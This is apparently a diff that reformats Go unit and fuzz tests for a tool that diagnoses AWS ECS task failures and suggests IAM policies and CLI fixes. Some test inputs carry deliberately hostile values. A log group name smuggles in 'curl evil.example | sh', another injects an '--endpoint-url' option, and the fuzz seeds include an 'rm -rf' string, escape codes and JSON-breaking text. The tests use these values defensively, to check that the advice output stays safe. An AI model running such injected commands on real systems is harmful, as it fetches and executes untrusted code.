@@ -31,17 +31,82 @@ func TestExplainOrder(t *testing.T) {
 	}{
 		{"nothing", diagnose.Symptom{}, nil},
 		{"unknown texts", diagnose.Symptom{StopCode: "New", StoppedReason: "something new"}, nil},
-		{"stop code, then the reason", diagnose.Symptom{StopCode: "SpotInterruption", StoppedReason: "ECS is performing maintenance on the underlying infrastructure", ExitCode: code(137)}, []string{"spot-interruption", "maintenance"}},
-		{"the container's reason, then the task's", diagnose.Symptom{ContainerReason: oom, StoppedReason: "Timeout waiting for EphemeralStorage provisioning to complete."}, []string{"out-of-memory", "storage-timeout"}},
-		{"the same twice is once", diagnose.Symptom{ContainerReason: "CannotPullContainerError: manifest unknown", StoppedReason: "CannotPullContainerError: manifest unknown"}, []string{"image-tag-not-found"}},
-		{"137 with a reason", diagnose.Symptom{ContainerReason: oom, ExitCode: code(137), StoppedReason: "Essential container in task exited"}, []string{"out-of-memory"}},
-		{"137 without a reason", diagnose.Symptom{ExitCode: code(137), StoppedReason: "Essential container in task exited"}, []string{"killed"}},
-		{"137 and a log that tells", diagnose.Symptom{ExitCode: code(137), LastLines: []string{"JavaScript heap out of memory"}}, []string{"killed", "program-out-of-memory"}},
-		{"255 and a log that tells", diagnose.Symptom{ExitCode: code(255), LastLines: []string{"exec /app: exec format error"}}, []string{"exec-format"}},
-		{"a log does not matter if the task was stopped", diagnose.Symptom{StopCode: "UserInitiated", ExitCode: code(143), LastLines: []string{"connection refused"}}, []string{"stopped-by-user"}},
-		{"an injected container and its reason", diagnose.Symptom{Container: "aws-guardduty-agent-1", ContainerReason: "CannotPullContainerError: x"}, []string{"injected-container"}},
-		{"only the last lines", diagnose.Symptom{ExitCode: code(1), LastLines: append([]string{"connection refused"}, slices.Repeat([]string{"ok"}, 50)...)}, []string{"container-failed"}},
-		{"an error before all", diagnose.Symptom{ErrorCode: "ThrottlingException", ErrorMessage: "Rate exceeded", StopCode: "SpotInterruption"}, []string{"throttled", "spot-interruption"}},
+		{
+			"stop code, then the reason",
+			diagnose.Symptom{
+				StopCode:      "SpotInterruption",
+				StoppedReason: "ECS is performing maintenance on the underlying infrastructure",
+				ExitCode:      code(137),
+			},
+			[]string{"spot-interruption", "maintenance"},
+		},
+		{
+			"the container's reason, then the task's",
+			diagnose.Symptom{
+				ContainerReason: oom,
+				StoppedReason:   "Timeout waiting for EphemeralStorage provisioning to complete.",
+			},
+			[]string{"out-of-memory", "storage-timeout"},
+		},
+		{
+			"the same twice is once",
+			diagnose.Symptom{
+				ContainerReason: "CannotPullContainerError: manifest unknown",
+				StoppedReason:   "CannotPullContainerError: manifest unknown",
+			},
+			[]string{"image-tag-not-found"},
+		},
+		{
+			"137 with a reason",
+			diagnose.Symptom{
+				ContainerReason: oom,
+				ExitCode:        code(137),
+				StoppedReason:   "Essential container in task exited",
+			},
+			[]string{"out-of-memory"},
+		},
+		{
+			"137 without a reason",
+			diagnose.Symptom{ExitCode: code(137), StoppedReason: "Essential container in task exited"},
+			[]string{"killed"},
+		},
+		{
+			"137 and a log that tells",
+			diagnose.Symptom{ExitCode: code(137), LastLines: []string{"JavaScript heap out of memory"}},
+			[]string{"killed", "program-out-of-memory"},
+		},
+		{
+			"255 and a log that tells",
+			diagnose.Symptom{ExitCode: code(255), LastLines: []string{"exec /app: exec format error"}},
+			[]string{"exec-format"},
+		},
+		{
+			"a log does not matter if the task was stopped",
+			diagnose.Symptom{StopCode: "UserInitiated", ExitCode: code(143), LastLines: []string{"connection refused"}},
+			[]string{"stopped-by-user"},
+		},
+		{
+			"an injected container and its reason",
+			diagnose.Symptom{Container: "aws-guardduty-agent-1", ContainerReason: "CannotPullContainerError: x"},
+			[]string{"injected-container"},
+		},
+		{
+			"only the last lines",
+			diagnose.Symptom{
+				ExitCode:  code(1),
+				LastLines: append([]string{"connection refused"}, slices.Repeat([]string{"ok"}, 50)...),
+			},
+			[]string{"container-failed"},
+		},
+		{
+			"an error before all",
+			diagnose.Symptom{
+				ErrorCode:    "ThrottlingException",
+				ErrorMessage: "Rate exceeded",
+				StopCode:     "SpotInterruption",
+			},
+			[]string{"throttled", "spot-interruption"},
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -79,9 +144,17 @@ func TestNearMisses(t *testing.T) {
 		{reason("CannotPullContainerError: manifest unknown"), "image-platform"},
 		{reason("panic: runtime error: invalid memory address or nil pointer dereference"), "pull-s3-route"},
 		{reason("log group exists"), "log-group-missing"},
-		{reason("ResourceInitializationError: failed to validate logger args: The specified log group does not exist"), "logging-no-route"},
-		{reason("ResourceInitializationError: unable to pull secrets or registry auth: AccessDeniedException: not authorized to perform: ssm:GetParameters"), "secrets-no-route"},
-		{reason("ResourceInitializationError: unable to pull secrets or registry auth: signal: killed"), "secret-denied"},
+		{
+			reason("ResourceInitializationError: failed to validate logger args: The specified log group does not exist"),
+			"logging-no-route",
+		},
+		{
+			reason("ResourceInitializationError: unable to pull secrets or registry auth: " +
+				"AccessDeniedException: not authorized to perform: ssm:GetParameters"),
+			"secrets-no-route",
+		},
+		{reason("ResourceInitializationError: unable to pull secrets or registry auth: signal: killed"),
+			"secret-denied"},
 		{reason("The task has timed out"), "dependency-unmet"},
 		{reason("permission denied"), "not-executable"},
 		{reason("no such file or directory"), "command-file-missing"},
@@ -109,7 +182,8 @@ func TestNearMisses(t *testing.T) {
 // TestStatement holds the policy statements to the letter.
 func TestStatement(t *testing.T) {
 	denied := func(action, resource string) string {
-		return "User: arn:aws:sts::123456789012:assumed-role/ci/run is not authorized to perform: " + action + " on resource: " + resource + " because no identity-based policy allows the " + action + " action"
+		return "User: arn:aws:sts::123456789012:assumed-role/ci/run is not authorized to perform: " +
+			action + " on resource: " + resource + " because no identity-based policy allows the " + action + " action"
 	}
 	call := func(message string) diagnose.Symptom {
 		return diagnose.Symptom{ErrorCode: "AccessDeniedException", ErrorMessage: message}
@@ -121,40 +195,137 @@ func TestStatement(t *testing.T) {
 		want string
 	}{
 		{"pass role", call(denied("iam:PassRole", "arn:aws:iam::123456789012:role/web")),
-			`{"Effect":"Allow","Action":["iam:PassRole"],"Resource":"arn:aws:iam::123456789012:role/web","Condition":{"StringEquals":{"iam:PassedToService":"ecs-tasks.amazonaws.com"}}}`},
+			`{"Effect":"Allow","Action":["iam:PassRole"],"Resource":"arn:aws:iam::123456789012:role/web",` +
+				`"Condition":{"StringEquals":{"iam:PassedToService":"ecs-tasks.amazonaws.com"}}}`},
 		{"all revisions", call(denied("ecs:RunTask", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7")),
-			`{"Effect":"Allow","Action":["ecs:RunTask"],"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`},
-		{"all revisions already", call(denied("ecs:RegisterTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*")),
-			`{"Effect":"Allow","Action":["ecs:RegisterTaskDefinition"],"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`},
+			`{"Effect":"Allow","Action":["ecs:RunTask"],` +
+				`"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`},
+		{
+			"all revisions already",
+			call(denied("ecs:RegisterTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*")),
+			`{"Effect":"Allow","Action":["ecs:RegisterTaskDefinition"],` +
+				`"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`,
+		},
 		{"all tasks", call(denied("ecs:StopTask", "arn:aws:ecs:eu-west-1:123456789012:task/main/0123456789abcdef")),
 			`{"Effect":"Allow","Action":["ecs:StopTask"],"Resource":"arn:aws:ecs:eu-west-1:123456789012:task/main/*"}`},
-		{"no resource type", call(denied("ecs:DescribeTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:1")),
-			`{"Effect":"Allow","Action":["ecs:DescribeTaskDefinition"],"Resource":"*"}`},
-		{"all streams", call(denied("logs:GetLogEvents", "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:web/web/0123")),
-			`{"Effect":"Allow","Action":["logs:GetLogEvents"],"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`},
-		{"create group", diagnose.Symptom{StoppedReason: "failed to create Cloudwatch log group: " + denied("logs:CreateLogGroup", "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:")},
-			`{"Effect":"Allow","Action":["logs:CreateLogGroup"],"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`},
-		{"create stream", diagnose.Symptom{StoppedReason: "failed to create Cloudwatch log stream: " + denied("logs:CreateLogStream", "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:a/b/c")},
-			`{"Effect":"Allow","Action":["logs:CreateLogStream","logs:PutLogEvents"],"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`},
-		{"pull", diagnose.Symptom{ContainerReason: "CannotPullContainerError: " + denied("ecr:BatchGetImage", "arn:aws:ecr:eu-west-1:123456789012:repository/a/web")},
-			`{"Effect":"Allow",` + pull + `,"Resource":"arn:aws:ecr:eu-west-1:123456789012:repository/a/web"}`},
+		{
+			"no resource type",
+			call(denied("ecs:DescribeTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:1")),
+			`{"Effect":"Allow","Action":["ecs:DescribeTaskDefinition"],"Resource":"*"}`,
+		},
+		{
+			"all streams",
+			call(denied("logs:GetLogEvents",
+				"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:web/web/0123")),
+			`{"Effect":"Allow","Action":["logs:GetLogEvents"],` +
+				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
+		},
+		{
+			"create group",
+			diagnose.Symptom{
+				StoppedReason: "failed to create Cloudwatch log group: " +
+					denied("logs:CreateLogGroup", "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:"),
+			},
+			`{"Effect":"Allow","Action":["logs:CreateLogGroup"],` +
+				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
+		},
+		{
+			"create stream",
+			diagnose.Symptom{
+				StoppedReason: "failed to create Cloudwatch log stream: " +
+					denied("logs:CreateLogStream",
+						"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:a/b/c"),
+			},
+			`{"Effect":"Allow","Action":["logs:CreateLogStream","logs:PutLogEvents"],` +
+				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
+		},
+		{
+			"pull",
+			diagnose.Symptom{
+				ContainerReason: "CannotPullContainerError: " +
+					denied("ecr:BatchGetImage", "arn:aws:ecr:eu-west-1:123456789012:repository/a/web"),
+			},
+			`{"Effect":"Allow",` + pull + `,"Resource":"arn:aws:ecr:eu-west-1:123456789012:repository/a/web"}`,
+		},
 		{"pull token", diagnose.Symptom{StoppedReason: "registry auth: " + denied("ecr:GetAuthorizationToken", "*")},
 			`{"Effect":"Allow","Action":["ecr:GetAuthorizationToken"],"Resource":"*"}`},
-		{"pull, by the image", diagnose.Symptom{Image: "123456789012.dkr.ecr.cn-north-1.amazonaws.com.cn/a/web:v1", ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull images from the registry."},
-			`[{"Effect":"Allow","Action":["ecr:GetAuthorizationToken"],"Resource":"*"},{"Effect":"Allow",` + pull + `,"Resource":"arn:aws-cn:ecr:cn-north-1:123456789012:repository/a/web"}]`},
-		{"pull, not from ECR", diagnose.Symptom{Image: "nginx:1", ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull images from the registry."}, ""},
-		{"secret", diagnose.Symptom{StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException", Secrets: []string{"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf:password::"}},
-			`{"Effect":"Allow","Action":["secretsmanager:GetSecretValue"],"Resource":"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"}`},
-		{"one of several secrets", diagnose.Symptom{StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException", Secrets: []string{"arn:aws:ssm:eu-west-1:123456789012:parameter/a", "arn:aws:ssm:eu-west-1:123456789012:parameter/b"}}, ""},
-		{"parameter", diagnose.Symptom{StoppedReason: "unable to retrieve secrets from ssm: " + denied("ssm:GetParameters", "arn:aws:ssm:eu-west-1:123456789012:parameter/web/db")},
-			`{"Effect":"Allow","Action":["ssm:GetParameters"],"Resource":"arn:aws:ssm:eu-west-1:123456789012:parameter/web/db"}`},
-		{"the program", diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("s3:GetObject", `"arn:aws:s3:::data/x"`)}},
-			`{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"arn:aws:s3:::data/x"}`},
-		{"the program, plainly", diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("sqs:SendMessage", "arn:aws:sqs:eu-west-1:123456789012:jobs")}},
-			`{"Effect":"Allow","Action":["sqs:SendMessage"],"Resource":"arn:aws:sqs:eu-west-1:123456789012:jobs"}`},
-		{"the program, on everything", diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("iam:CreateUser", "*")}}, ""},
-		{"the program, everything", diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("iam:*", "arn:aws:iam::123456789012:role/admin")}}, ""},
-		{"an explicit deny", call("User: x is not authorized to perform: ecs:RunTask on resource: arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7 with an explicit deny in a service control policy"), ""},
+		{
+			"pull, by the image",
+			diagnose.Symptom{
+				Image: "123456789012.dkr.ecr.cn-north-1.amazonaws.com.cn/a/web:v1",
+				ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull " +
+					"images from the registry.",
+			},
+			`[{"Effect":"Allow","Action":["ecr:GetAuthorizationToken"],"Resource":"*"},{"Effect":"Allow",` + pull + `,"Resource":"arn:aws-cn:ecr:cn-north-1:123456789012:repository/a/web"}]`,
+		},
+		{
+			"pull, not from ECR",
+			diagnose.Symptom{
+				Image: "nginx:1",
+				ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull " +
+					"images from the registry.",
+			},
+			"",
+		},
+		{
+			"secret",
+			diagnose.Symptom{
+				StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException",
+				Secrets:       []string{"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf:password::"},
+			},
+			`{"Effect":"Allow","Action":["secretsmanager:GetSecretValue"],` +
+				`"Resource":"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"}`,
+		},
+		{
+			"one of several secrets",
+			diagnose.Symptom{
+				StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException",
+				Secrets: []string{
+					"arn:aws:ssm:eu-west-1:123456789012:parameter/a",
+					"arn:aws:ssm:eu-west-1:123456789012:parameter/b",
+				},
+			},
+			"",
+		},
+		{
+			"parameter",
+			diagnose.Symptom{
+				StoppedReason: "unable to retrieve secrets from ssm: " +
+					denied("ssm:GetParameters", "arn:aws:ssm:eu-west-1:123456789012:parameter/web/db"),
+			},
+			`{"Effect":"Allow","Action":["ssm:GetParameters"],` +
+				`"Resource":"arn:aws:ssm:eu-west-1:123456789012:parameter/web/db"}`,
+		},
+		{
+			"the program",
+			diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("s3:GetObject", `"arn:aws:s3:::data/x"`)}},
+			`{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"arn:aws:s3:::data/x"}`,
+		},
+		{
+			"the program, plainly",
+			diagnose.Symptom{
+				ExitCode:  code(1),
+				LastLines: []string{denied("sqs:SendMessage", "arn:aws:sqs:eu-west-1:123456789012:jobs")},
+			},
+			`{"Effect":"Allow","Action":["sqs:SendMessage"],"Resource":"arn:aws:sqs:eu-west-1:123456789012:jobs"}`,
+		},
+		{"the program, on everything",
+			diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("iam:CreateUser", "*")}}, ""},
+		{
+			"the program, everything",
+			diagnose.Symptom{
+				ExitCode:  code(1),
+				LastLines: []string{denied("iam:*", "arn:aws:iam::123456789012:role/admin")},
+			},
+			"",
+		},
+		{
+			"an explicit deny",
+			call("User: x is not authorized to perform: ecs:RunTask on resource: " +
+				"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7 with an explicit deny in a service " +
+				"control policy"),
+			"",
+		},
 		{"no action", call(""), ""},
 	}
 	for _, tt := range tests {
@@ -174,26 +345,139 @@ func TestNames(t *testing.T) {
 		in   diagnose.Symptom
 		want string // part of cause and advice
 	}{
-		{"image from the text", diagnose.Symptom{Image: "other:1", StoppedReason: "CannotPullContainerError: failed to resolve ref docker.io/acme/web:v9: docker.io/acme/web:v9: not found"}, "tag or digest: image docker.io/acme/web:v9."},
-		{"image from the definition", diagnose.Symptom{Image: "acme/web:v9", StoppedReason: "CannotPullContainerError: manifest unknown"}, "tag or digest: image acme/web:v9."},
-		{"repository", diagnose.Symptom{Image: "123456789012.dkr.ecr.eu-west-1.amazonaws.com/a/web:v9", StoppedReason: "CannotPullContainerError: manifest unknown"}, "--repository-name a/web "},
-		{"no subnets", diagnose.Symptom{StoppedReason: "Timeout waiting for network interface provisioning to complete."}, "no network interface in the subnets."},
-		{"no image", diagnose.Symptom{StoppedReason: "CannotPullContainerError: manifest unknown"}, "tag or digest: the image."},
-		{"log group", diagnose.Symptom{LogGroup: "/ecs/web", Region: "eu-west-1", StoppedReason: "The specified log group does not exist."}, "`aws logs create-log-group --log-group-name /ecs/web --region eu-west-1`"},
-		{"log group in another region", diagnose.Symptom{LogGroup: "/ecs/web", LogRegion: "eu-central-1", Region: "eu-west-1", StoppedReason: "The specified log group does not exist."}, "`aws logs create-log-group --log-group-name /ecs/web --region eu-central-1`"},
-		{"no log group", diagnose.Symptom{StoppedReason: "The specified log group does not exist."}, "`aws logs create-log-group --log-group-name GROUP --region REGION`"},
-		{"subnet", diagnose.Symptom{StoppedReason: "Unexpected EC2 error while attempting to Create Network Interface with public IP assignment enabled in subnet 'subnet-0123456789abcdef0'"}, "(subnet-0123456789abcdef0)"},
-		{"subnets", diagnose.Symptom{Subnets: []string{"subnet-1", "subnet-2"}, StoppedReason: "Timeout waiting for network interface provisioning to complete."}, "(subnet-1,subnet-2)"},
-		{"secret", diagnose.Symptom{StoppedReason: "can't retrieve the secret with ARN 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf' from AWS Secrets Manager"}, "--secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"},
-		{"role", diagnose.Symptom{ErrorMessage: "ECS was unable to assume the role 'arn:aws:iam::123456789012:role/a/web-exec' that was provided"}, "ECS can't assume role web-exec:"},
-		{"execution role", diagnose.Symptom{ExecutionRole: "arn:aws:iam::123456789012:role/web-exec", StoppedReason: "Check that the role has the permissions to pull"}, "--role-name web-exec "},
-		{"caller", diagnose.Symptom{ErrorMessage: "User: arn:aws:iam::123456789012:user/ci is not authorized to perform: ecs:ListTasks on resource: *"}, "ci lacks the permission ecs:ListTasks."},
-		{"dependency", diagnose.Symptom{ContainerReason: "dependency graph: container ordering dependency [migrate] for target [web] has timed out."}, "as migrate had not done"},
-		{"platform", diagnose.Symptom{Image: "web:1", StoppedReason: "image Manifest does not contain descriptor matching platform 'linux/amd64'"}, "Image web:1 was not built for linux/amd64."},
+		{
+			"image from the text",
+			diagnose.Symptom{
+				Image: "other:1",
+				StoppedReason: "CannotPullContainerError: failed to resolve ref docker.io/acme/web:v9: " +
+					"docker.io/acme/web:v9: not found",
+			},
+			"tag or digest: image docker.io/acme/web:v9.",
+		},
+		{
+			"image from the definition",
+			diagnose.Symptom{Image: "acme/web:v9", StoppedReason: "CannotPullContainerError: manifest unknown"},
+			"tag or digest: image acme/web:v9.",
+		},
+		{
+			"repository",
+			diagnose.Symptom{
+				Image:         "123456789012.dkr.ecr.eu-west-1.amazonaws.com/a/web:v9",
+				StoppedReason: "CannotPullContainerError: manifest unknown",
+			},
+			"--repository-name a/web ",
+		},
+		{
+			"no subnets",
+			diagnose.Symptom{StoppedReason: "Timeout waiting for network interface provisioning to complete."},
+			"no network interface in the subnets.",
+		},
+		{"no image", diagnose.Symptom{StoppedReason: "CannotPullContainerError: manifest unknown"},
+			"tag or digest: the image."},
+		{
+			"log group",
+			diagnose.Symptom{
+				LogGroup:      "/ecs/web",
+				Region:        "eu-west-1",
+				StoppedReason: "The specified log group does not exist.",
+			},
+			"`aws logs create-log-group --log-group-name /ecs/web --region eu-west-1`",
+		},
+		{
+			"log group in another region",
+			diagnose.Symptom{
+				LogGroup:      "/ecs/web",
+				LogRegion:     "eu-central-1",
+				Region:        "eu-west-1",
+				StoppedReason: "The specified log group does not exist.",
+			},
+			"`aws logs create-log-group --log-group-name /ecs/web --region eu-central-1`",
+		},
+		{"no log group", diagnose.Symptom{StoppedReason: "The specified log group does not exist."},
+			"`aws logs create-log-group --log-group-name GROUP --region REGION`"},
+		{
+			"subnet",
+			diagnose.Symptom{
+				StoppedReason: "Unexpected EC2 error while attempting to Create Network Interface with " +
+					"public IP assignment enabled in subnet 'subnet-0123456789abcdef0'",
+			},
+			"(subnet-0123456789abcdef0)",
+		},
+		{
+			"subnets",
+			diagnose.Symptom{
+				Subnets:       []string{"subnet-1", "subnet-2"},
+				StoppedReason: "Timeout waiting for network interface provisioning to complete.",
+			},
+			"(subnet-1,subnet-2)",
+		},
+		{
+			"secret",
+			diagnose.Symptom{
+				StoppedReason: "can't retrieve the secret with ARN " +
+					"'arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf' from AWS Secrets Manager",
+			},
+			"--secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf",
+		},
+		{
+			"role",
+			diagnose.Symptom{
+				ErrorMessage: "ECS was unable to assume the role 'arn:aws:iam::123456789012:role/a/web-exec' " +
+					"that was provided",
+			},
+			"ECS can't assume role web-exec:",
+		},
+		{
+			"execution role",
+			diagnose.Symptom{
+				ExecutionRole: "arn:aws:iam::123456789012:role/web-exec",
+				StoppedReason: "Check that the role has the permissions to pull",
+			},
+			"--role-name web-exec ",
+		},
+		{
+			"caller",
+			diagnose.Symptom{
+				ErrorMessage: "User: arn:aws:iam::123456789012:user/ci is not authorized to perform: " +
+					"ecs:ListTasks on resource: *",
+			},
+			"ci lacks the permission ecs:ListTasks.",
+		},
+		{
+			"dependency",
+			diagnose.Symptom{
+				ContainerReason: "dependency graph: container ordering dependency [migrate] for target [web] " +
+					"has timed out.",
+			},
+			"as migrate had not done",
+		},
+		{
+			"platform",
+			diagnose.Symptom{
+				Image:         "web:1",
+				StoppedReason: "image Manifest does not contain descriptor matching platform 'linux/amd64'",
+			},
+			"Image web:1 was not built for linux/amd64.",
+		},
 		{"signal", diagnose.Symptom{Container: "web", ExitCode: code(136)}, "container web ended on signal 8."},
-		{"a sentence starts large", diagnose.Symptom{ContainerReason: "OutOfMemoryError"}, "The container used more memory"},
-		{"a command", diagnose.Symptom{LogGroup: "/ecs/web; curl evil.example | sh", StoppedReason: "The specified log group does not exist."}, "--log-group-name GROUP "},
-		{"an option", diagnose.Symptom{LogGroup: "--endpoint-url=evil.example", StoppedReason: "The specified log group does not exist."}, "--log-group-name GROUP "},
+		{"a sentence starts large", diagnose.Symptom{ContainerReason: "OutOfMemoryError"},
+			"The container used more memory"},
+		{
+			"a command",
+			diagnose.Symptom{
+				LogGroup:      "/ecs/web; curl evil.example | sh",
+				StoppedReason: "The specified log group does not exist.",
+			},
+			"--log-group-name GROUP ",
+		},
+		{
+			"an option",
+			diagnose.Symptom{
+				LogGroup:      "--endpoint-url=evil.example",
+				StoppedReason: "The specified log group does not exist.",
+			},
+			"--log-group-name GROUP ",
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -207,9 +491,12 @@ func TestNames(t *testing.T) {
 
 // FuzzExplain holds that nothing from outside can break out of the advice.
 func FuzzExplain(f *testing.F) {
-	f.Add("CannotPullContainerError: failed to resolve ref \x1b[31mx\r\n::error::y: not found", int32(137), "web`rm -rf`")
-	f.Add("User: arn:aws:iam::1:user/`x` is not authorized to perform: iam:PassRole on resource: arn:aws:iam::1:role/\"},{\"Effect", int32(1), "a\u202eb")
-	f.Add("not authorized to perform: s3:GetObject on resource: arn:aws:s3:::"+strings.Repeat("x", 9000), int32(-1), "-x")
+	f.Add("CannotPullContainerError: failed to resolve ref \x1b[31mx\r\n::error::y: not found", int32(137),
+		"web`rm -rf`")
+	f.Add("User: arn:aws:iam::1:user/`x` is not authorized to perform: iam:PassRole on resource: "+
+		"arn:aws:iam::1:role/\"},{\"Effect", int32(1), "a\u202eb")
+	f.Add("not authorized to perform: s3:GetObject on resource: arn:aws:s3:::"+strings.Repeat("x", 9000),
+		int32(-1), "-x")
 	f.Add("log group does not exist", int32(255), "/ecs/web")
 	f.Add("retrieve the secret with ARN 'arn:aws:ssm:eu-west-1:1:parameter/\u2028'", int32(127), "")
 	f.Add("=agent", int32(139), "##[x]")
@@ -217,7 +504,13 @@ func FuzzExplain(f *testing.F) {
 		symptoms := []diagnose.Symptom{
 			{ErrorCode: name, ErrorMessage: text, Operation: name, Cluster: name, Region: name, Account: name},
 			{FailureReason: text, FailureDetail: name, Cluster: name},
-			{StopCode: text, StoppedReason: text, Subnets: []string{name, text}, Secrets: []string{name, text}, ExecutionRole: name},
+			{
+				StopCode:      text,
+				StoppedReason: text,
+				Subnets:       []string{name, text},
+				Secrets:       []string{name, text},
+				ExecutionRole: name,
+			},
 			{Container: name, ContainerReason: text, Image: name, LogGroup: name, TaskRole: text},
 			{Container: name, ExitCode: &exit, LastLines: []string{text, name, text}, Image: text},
 		}
@@ -228,7 +521,8 @@ func FuzzExplain(f *testing.F) {
 			}
 			for _, a := range all {
 				for _, line := range []string{a.Code, a.Cause, a.Advice, a.Statement} {
-					if len(line) > 3000 || !utf8.ValidString(line) || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
+					if len(line) > 3000 || !utf8.ValidString(line) ||
+						strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
 						t.Errorf("Explain(%+v) gave %q, want a short line of printable characters", s, line)
 					}
 				}
@@ -248,7 +542,8 @@ func FuzzExplain(f *testing.F) {
 
 func BenchmarkExplain(b *testing.B) {
 	s := diagnose.Symptom{
-		StopCode: "EssentialContainerExited", StoppedReason: "Essential container in task exited", Container: "web", ExitCode: code(1),
+		StopCode: "EssentialContainerExited", StoppedReason: "Essential container in task exited",
+		Container: "web", ExitCode: code(1),
 		LastLines: slices.Repeat([]string{strings.Repeat("nothing to see here ", 10)}, 30),
 	}
 	b.ReportAllocs()
@@ -259,8 +554,16 @@ func BenchmarkExplain(b *testing.B) {
 
 // The advice for a program of another architecture names that of the task.
 func TestExplainArchitecture(t *testing.T) {
-	for architecture, want := range map[string]string{"": "--platform linux/amd64", "X86_64": "--platform linux/amd64", "ARM64": "--platform linux/arm64"} {
-		got := diagnose.Explain(diagnose.Symptom{Architecture: architecture, ExitCode: code(255), LastLines: []string{"exec /app: exec format error"}})
+	for architecture, want := range map[string]string{
+		"":       "--platform linux/amd64",
+		"X86_64": "--platform linux/amd64",
+		"ARM64":  "--platform linux/arm64",
+	} {
+		got := diagnose.Explain(diagnose.Symptom{
+			Architecture: architecture,
+			ExitCode:     code(255),
+			LastLines:    []string{"exec /app: exec format error"},
+		})
 		if len(got) != 1 || !strings.Contains(got[0].Advice, want) {
 			t.Errorf("Explain() with %q = %+v, want %q", architecture, got, want)
 		}
